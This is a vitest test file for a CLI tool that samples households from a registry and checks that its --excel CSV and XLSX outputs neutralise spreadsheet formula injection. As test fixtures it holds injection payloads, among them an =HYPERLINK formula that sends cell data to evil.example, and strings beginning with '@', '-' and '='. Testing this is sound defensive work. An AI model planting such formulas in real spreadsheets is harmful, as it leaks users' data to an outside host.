/**
 * The tests "--excel CSVs carry no formula; programs get the exact values; all readers read back exactly" and "a
 * line break inside a cell never starts a row of a CSV for Excel" from test/safety-formulas.test.ts (moved, issue
 * 14).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { startsFormula, unguardCell } from '../../../src/core/spreadsheetText.js';
import { sealManifest, type Manifest } from '../../../src/core/manifest.js';
import { cli, DEMO, tempDir } from '../../helpers.js';
import { checkDraw, pythonOnPath } from '../../pythonChecker.js';
import { hostileRegistry, DRAW, manifestOf, readCsv, HOSTILE_HEADER, HYPERLINK } from '../formulasKit.js';

const hasPython = pythonOnPath();

describe('--excel CSVs carry no formula; programs get the exact values; all readers read back exactly', async () => {
  const dir = tempDir('spotcheck-formulas-');
  const registry = hostileRegistry(dir);
  const excelDraw = join(dir, 'excel');
  const plainDraw = join(dir, 'plain');
  const drawn = await cli([...DRAW(registry), '--excel', '--xlsx', '--out', excelDraw]);
  const plain = await cli([...DRAW(registry), '--out', plainDraw]);

  it('both draws are made, from the same units', () => {
    expect(drawn.status, drawn.stderr).toBe(0);
    expect(plain.status, plain.stderr).toBe(0);
    expect(manifestOf(excelDraw).parameters.formula_guard).toBe(2);
    expect(manifestOf(plainDraw).parameters).not.toHaveProperty('formula_guard');
  });

  it('no cell of an --excel CSV starts a formula, and every hostile value is there behind one apostrophe', () => {
    const households = readCsv(join(excelDraw, 'households.csv'));
    const all = ['counties.csv', 'villages.csv', 'households.csv'].flatMap((name) =>
      readCsv(join(excelDraw, name)).flat(),
    );
    expect(all.filter(startsFormula)).toEqual([]);
    expect(households[0]).toContain(`'${HOSTILE_HEADER}`);
    const flat = households.flat();
    expect(flat).toContain(`'${HYPERLINK}`);
    expect(flat).toContain("'@弥鹤村");
    expect(flat).toContain("''新光村");
    expect(flat).toContain("'-2+3+cmd");
    expect(flat.some((cell) => /^'=\d{16}$/.test(cell))).toBe(true);
  });

  it('the CSV for programs keeps the exact values, and reads back cell for cell like the --excel one', () => {
    const exact = readCsv(join(plainDraw, 'households.csv'));
    expect(exact.flat()).toContain(HYPERLINK);
    expect(exact[0]).toContain(HOSTILE_HEADER);
    const excel = readCsv(join(excelDraw, 'households.csv')).map((row) => row.map(unguardCell));
    expect(excel).toEqual(exact);
  });

  it('the workbook holds no formula, and every hostile text and every ID is a string cell in the Text format', () => {
    const unzip = spawnSync(
      'unzip',
      ['-p', join(excelDraw, 'check-workbook.xlsx'), 'xl/worksheets/*.xml', 'xl/sharedStrings.xml', 'xl/styles.xml'],
      { encoding: 'utf8', maxBuffer: 64 << 20 },
    );
    if (unzip.status !== 0) return expect.fail(`unzip is needed to read the workbook: ${unzip.stderr}`);
    const xml = unzip.stdout;
    expect(xml).not.toMatch(/<f[ >]/);
    expect(xml).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1');
    // issue 15: 户编号 (16 digits) are strings, and no cell is a number Excel would round
    expect(xml).toMatch(/<t>[0-9]{16}<\/t>/);
    expect(xml).not.toMatch(/<c r="[A-Z]+\d+"(?: s="\d+")?(?: t="n")?><v>-?[0-9]{12,}<\/v>/);
    // every string cell (t="s") carries a style whose number format is 49 (Text, "@")
    const textStyles = new Set(
      [...(xml.match(/<cellXfs[^>]*>(.*?)<\/cellXfs>/s)?.[1] ?? '').matchAll(/<xf [^>]*?\/?>/g)]
        .map((match, index) => (/numFmtId="49"/.test(match[0]) ? index : -1))
        .filter((index) => index >= 0),
    );
    const stringCells = [...xml.matchAll(/<c r="[A-Z]+\d+"( s="(\d+)")? t="s">/g)];
    expect(stringCells.length).toBeGreaterThan(20);
    expect(stringCells.filter((cell) => !textStyles.has(Number(cell[2] ?? '0'))).length).toBe(0);
  });

  it('verify re-draws the --excel draw byte for byte (exit 0)', async () => {
    const result = await cli(['verify', excelDraw, '--registry', registry]);
    expect(result.status, result.stdout + result.stderr).toBe(0);
  });

  it.skipIf(!hasPython)('docs/check_draw.py re-draws it and compares every cell (exit 0)', async () => {
    const result = await checkDraw([join(excelDraw, 'manifest.json'), '--registry', registry]);
    expect(result.status, result.stdout + result.stderr).toBe(0);
  });

  it('--exclude of the --excel draw leaves out exactly the households the plain draw names (keys read without the apostrophe)', async () => {
    const next = async (source: string, name: string) =>
      await cli([
        ...DRAW(registry, 'next'),
        '--exclude',
        source,
        '--exclude-stages',
        'household',
        '--excel',
        '--out',
        join(dir, name),
      ]);
    const fromExcel = await next(excelDraw, 'next-excel');
    const fromPlain = await next(plainDraw, 'next-plain');
    expect(fromExcel.status, fromExcel.stderr).toBe(0);
    expect(fromPlain.status, fromPlain.stderr).toBe(0);
    const excludedKeys = (name: string) =>
      readCsv(join(dir, name, 'excluded.csv'))
        .slice(1)
        .map((row) => unguardCell(row[1]!));
    const drawnIds = readCsv(join(plainDraw, 'households.csv'));
    const idColumn = drawnIds[0]!.indexOf('household_id');
    expect(excludedKeys('next-excel').sort()).toEqual(
      drawnIds
        .slice(1)
        .map((row) => row[idColumn]!)
        .sort(),
    );
    expect(excludedKeys('next-excel')).toEqual(excludedKeys('next-plain'));
    expect(excludedKeys('next-excel').some((key) => key.startsWith('='))).toBe(true);
    // excluded.csv is itself a CSV for Excel: guarded, and read back by verify.
    expect(
      readCsv(join(dir, 'next-excel', 'excluded.csv'))
        .flat()
        .filter(startsFormula),
    ).toEqual([]);
    const verified = await cli(['verify', join(dir, 'next-excel'), '--registry', registry]);
    expect(verified.status, verified.stdout + verified.stderr).toBe(0);
    if (hasPython) {
      const checked = await checkDraw([join(dir, 'next-excel', 'manifest.json'), '--registry', registry]);
      expect(checked.status, checked.stdout + checked.stderr).toBe(0);
    }
  });

  it('a list copied out of an --excel CSV (keys behind apostrophes) names the same households', async () => {
    const households = readCsv(join(excelDraw, 'households.csv'));
    const idColumn = households[0]!.indexOf('household_id');
    const list = join(dir, 'list.csv');
    writeFileSync(
      list,
      `户编号\n${households
        .slice(1)
        .map((row) => row[idColumn])
        .join('\n')}\n`,
    );
    const result = await cli([...DRAW(registry, 'list'), '--exclude', list, '--exclude-stages', 'household', '--json']);
    expect(result.status, result.stderr).toBe(0);
    const manifest = JSON.parse(result.stdout).manifest as Manifest & {
      exclusions: { excluded: { households: number } };
    };
    expect(manifest.exclusions.excluded.households).toBe(households.length - 1);
  });

  it('a manifest that claims the guard for files written without it fails verify (exit 1)', async () => {
    const forged = join(dir, 'forged');
    execFileSync('cp', ['-r', plainDraw, forged]);
    const { manifest_sha256: _old, ...manifest } = manifestOf(forged);
    manifest.parameters = { ...manifest.parameters, formula_guard: 1 };
    writeFileSync(join(forged, 'manifest.json'), `${JSON.stringify(sealManifest(manifest as Manifest), null, 2)}\n`);
    const result = await cli(['verify', forged, '--registry', registry]);
    expect(result.status).not.toBe(0);
  });
});

describe('a line break inside a cell never starts a row of a CSV for Excel', () => {
  it('a lone LF or CR in a value or a header is quoted: the file parses to the registry values, verify and check_draw.py agree', async () => {
    const dir = tempDir('spotcheck-formulas-lf-');
    const lines = readFileSync(DEMO, 'utf8')
      .replace(/^\uFEFF/, '')
      .split(/\r?\n/)
      .filter((line) => line !== '');
    const text = `${[`${lines[0]},"备注\n=1+1"`, ...lines.slice(1).map((line, index) => `${line},"${index % 2 ? 'a\n=1+1' : 'b\r@SUM(A1)'}"`)].join('\r\n')}\r\n`;
    const registry = join(dir, 'registry.csv');
    writeFileSync(registry, text);
    const out = join(dir, 'draw');
    const drawn = await cli([
      'monthly',
      registry,
      '--month',
      '2026-11',
      '--seed',
      'lf',
      '--level',
      'county',
      '--scope',
      '峨山彝族自治县',
      '--excel',
      '--out',
      out,
    ]);
    expect(drawn.status, drawn.stderr).toBe(0);
    const rows = readCsv(join(out, 'households.csv'));
    expect(rows.length).toBe(manifestOf(out).outputs['households.csv']!.rows + 1);
    expect(rows.flat().filter(startsFormula)).toEqual([]);
    expect(rows[0]!.at(-1)).toBe('备注\n=1+1');
    expect(rows.slice(1).every((row) => ['a\n=1+1', 'b\r@SUM(A1)'].includes(row.at(-1)!))).toBe(true);
    expect((await cli(['verify', out, '--registry', registry])).status).toBe(0);
    if (hasPython) {
      const checked = await checkDraw([join(out, 'manifest.json'), '--registry', registry]);
      expect(checked.status, checked.stdout + checked.stderr).toBe(0);
    }
  });
});
